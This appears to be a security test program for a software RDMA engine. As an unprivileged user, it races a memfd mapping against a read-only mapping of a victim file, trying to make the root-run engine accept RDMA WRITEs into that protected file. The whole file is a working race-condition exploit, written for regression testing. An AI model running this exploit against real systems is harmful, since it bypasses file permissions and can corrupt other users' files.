// Attack (issue 26, item 2): make the root engine map, writable, a file the attacker may
// only read. The attacker registers writable shared memory (a memfd) at a fixed
// address while a second thread keeps swapping, at that same address, a read-only
// shared mapping of the victim file in and out. If the engine read the maps line (the
// memfd, "rw-s") and then opened /proc/PID/map_files after the swap with its own
// rights, it would hold the victim file writable and an RDMA WRITE would change it for
// every process. Every registration that succeeds is written into at once.
//
//   mapping_swap_attack DEV0 DEV1 VICTIM_FILE ITERATIONS
//
// Run as an unprivileged user who may read VICTIM_FILE but not write it. Exit 0 when
// the attack failed (the caller compares the file's bytes before and after).
#include "attack_verbs.hpp"

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <infiniband/verbs.h>
#include <string>
#include <sys/mman.h>
#include <thread>
#include <unistd.h>
#include <vector>

namespace {

using attack::connect_qp;
using attack::die;
using attack::make_qp;
using attack::open_side;
using attack::Side;

constexpr uint64_t kAt = 0x5d5d00000000ull;
constexpr size_t kBytes = 65536;

} // namespace

int main(int argc, char** argv) {
    if (argc != 5)
        die("usage: mapping_swap_attack DEV0 DEV1 VICTIM_FILE ITERATIONS");
    const int iterations = std::atoi(argv[4]);
    const int victim = open(argv[3], O_RDONLY | O_CLOEXEC);
    if (victim < 0)
        die("open the victim file");
    if (open(argv[3], O_RDWR | O_CLOEXEC) >= 0) {
        std::fprintf(stderr, "mapping_swap_attack: run me as a user who may not write %s\n",
                     argv[3]);
        return 2;
    }
    const int mine = memfd_create("softhca-swap", MFD_CLOEXEC);
    if (mine < 0 || ftruncate(mine, kBytes) != 0)
        die("memfd");
    void* at = reinterpret_cast<void*>(kAt);
    if (mmap(at, kBytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, mine, 0) != at)
        die("map the memfd");

    Side target = open_side(argv[1]), source = open_side(argv[2]);
    std::vector<char> payload(4096, 'X');
    ibv_mr* local = ibv_reg_mr(source.pd, payload.data(), payload.size(), IBV_ACCESS_LOCAL_WRITE);
    if (!local)
        die("reg_mr of the payload");

    std::atomic<bool> stop{false};
    std::thread swapper([&] {
        while (!stop.load(std::memory_order_relaxed)) {
            mmap(at, kBytes, PROT_READ, MAP_SHARED | MAP_FIXED, victim, 0);
            mmap(at, kBytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, mine, 0);
        }
    });
    int registered = 0, written = 0;
    ibv_qp *qt = nullptr, *qs = nullptr;
    for (int i = 0; i < iterations; ++i) {
        ibv_mr* mr =
            ibv_reg_mr(target.pd, at, kBytes, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
        if (!mr)
            continue;
        ++registered;
        if (!qt) {
            qt = make_qp(target);
            qs = make_qp(source);
            connect_qp(qt, qs->qp_num, source.gid);
            connect_qp(qs, qt->qp_num, target.gid);
        }
        ibv_sge sge{reinterpret_cast<uintptr_t>(payload.data()), 4096, local->lkey};
        ibv_send_wr wr{};
        wr.sg_list = &sge;
        wr.num_sge = 1;
        wr.opcode = IBV_WR_RDMA_WRITE;
        wr.send_flags = IBV_SEND_SIGNALED;
        wr.wr.rdma.remote_addr = kAt;
        wr.wr.rdma.rkey = mr->rkey;
        ibv_send_wr* bad = nullptr;
        if (ibv_post_send(qs, &wr, &bad))
            die("post_send");
        ibv_wc wc{};
        const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
        while (ibv_poll_cq(source.cq, 1, &wc) == 0)
            if (std::chrono::steady_clock::now() > deadline)
                die("no completion");
        if (wc.status == IBV_WC_SUCCESS) {
            ++written;
        } else {
            // The write failed (the memory under the MR was not writable for the
            // engine): a fresh pair for the next round.
            ibv_destroy_qp(qs);
            ibv_destroy_qp(qt);
            qt = qs = nullptr;
        }
        ibv_dereg_mr(mr);
    }
    stop = true;
    swapper.join();
    std::printf("%d iterations: %d registrations, %d RDMA WRITEs completed\n", iterations,
                registered, written);
    return 0;
}
